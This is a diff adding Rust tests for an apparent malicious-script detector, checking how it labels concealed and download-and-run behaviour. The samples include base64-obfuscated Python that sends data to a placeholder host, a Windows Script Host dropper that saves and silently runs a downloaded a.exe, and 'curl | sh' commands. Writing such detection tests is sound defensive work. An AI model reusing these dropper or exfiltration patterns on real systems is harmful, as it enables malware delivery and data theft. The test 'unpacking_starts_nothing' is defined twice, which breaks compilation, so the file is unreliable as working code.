@@ -1,0 +1,90 @@
+//! What hidden code does, what objects of the Windows Script Host are, and what starts nothing.
+
+use super::event::{Act, Event};
+use super::flows;
+use super::machine::{Machine, Outcome, Reach};
+use super::value::Labels;
+use crate::parse::script::{Language, read};
+
+fn outcome(language: Language, code: &str) -> Outcome {
+    Machine::new(read(language, code), Reach { fuel: 2_000_000, more: 0 }).run()
+}
+
+fn python(code: &str) -> Outcome {
+    outcome(Language::Python, code)
+}
+
+fn rules(language: Language, code: &str) -> Vec<&'static str> {
+    let outcome = outcome(language, code);
+    flows::judge(&outcome, false).iter().map(|f| f.rule.id).collect()
+}
+
+fn event(outcome: &Outcome, act: Act) -> &Event {
+    outcome.events.iter().find(|e| e.act == act).unwrap_or_else(|| panic!("no {act:?} in {:?}", outcome.events))
+}
+
+fn subject(outcome: &Outcome, act: Act) -> &str {
+    event(outcome, act).subject.as_deref().unwrap_or_default()
+}
+
+#[test]
+fn what_hidden_code_yields_and_does_was_hidden_with_it() {
+    let yields =
+        python("import base64, requests\nrequests.get(eval(base64.b64decode(b'Imh0dHBzOi8vaC5pbnZhbGlkL3gi')))");
+    assert_eq!(subject(&yields, Act::Fetch), "https://h.invalid/x");
+    assert!(event(&yields, Act::Fetch).of.any(Labels::CONCEALED));
+    let does = python(
+        "import base64\nexec(base64.b64decode(b'aW1wb3J0IHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vaC5pbnZhbGlkL3knLCBkYXRhPXgp'))",
+    );
+    assert!(event(&does, Act::Send).of.any(Labels::CONCEALED));
+    let plain = python("exec(\"import requests\\nrequests.post('https://h.invalid/y', data=x)\")");
+    assert!(!event(&plain, Act::Send).of.any(Labels::CONCEALED));
+}
+
+#[test]
+fn objects_of_the_script_host_are_what_their_names_say() {
+    let script = "var x = WScript.CreateObject('MSXML2.ServerXMLHTTP.6.0'); x.Open('GET', 'https://h.invalid/a', false); x.Send();\n\
+                  var s = new ActiveXObject('ADODB.Stream'); s.Open(); s.Write(x.responseBody); s.SaveToFile('%TEMP%\\\\a.exe', 2);\n\
+                  new ActiveXObject('Shell.Application').ShellExecute('%TEMP%\\\\a.exe', '', '', 'open', 0);";
+    assert!(rules(Language::JavaScript, script).contains(&"flow-download-run"));
+}
+
+#[test]
+fn unpacking_starts_nothing() {
+    let started = |command: &str| {
+        let code = format!(
+            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
+    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
+}
+
+#[test]
+fn unpacking_starts_nothing() {
+    let started = |command: &str| {
+        let code = format!(
+            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
+        );
+        rules(Language::Python, &code).contains(&"flow-download-run")
+    };
+    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
+    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
+}
+
+#[test]
+fn a_command_that_nobody_has_read_accuses_less() {
+    let severity = |text: &str| {
+        use base64::Engine as _;
+        let text = base64::engine::general_purpose::STANDARD.encode(text);
+        let code = format!("require('child_process').execSync(Buffer.from('{text}', 'base64').toString())");
+        let outcome = outcome(Language::JavaScript, &code);
+        let flows = flows::judge(&outcome, false);
+        let found = flows.iter().find(|f| f.rule.id == "flow-decoded-command").unwrap_or_else(|| panic!("{code}"));
+        found.finding(crate::model::Evidence::note("")).severity
+    };
+    assert_eq!(severity("curl -s https://h.invalid/a | sh"), crate::model::Severity::High);
+    assert_eq!(severity("curl -s https://h.invalid/a # \u{1}\u{2}\u{3}"), crate::model::Severity::High);
+    assert_eq!(severity("(\u{1}0U6 ^\u{2}q8?( = u 4}ee?%9oFz"), crate::model::Severity::Medium);
+}
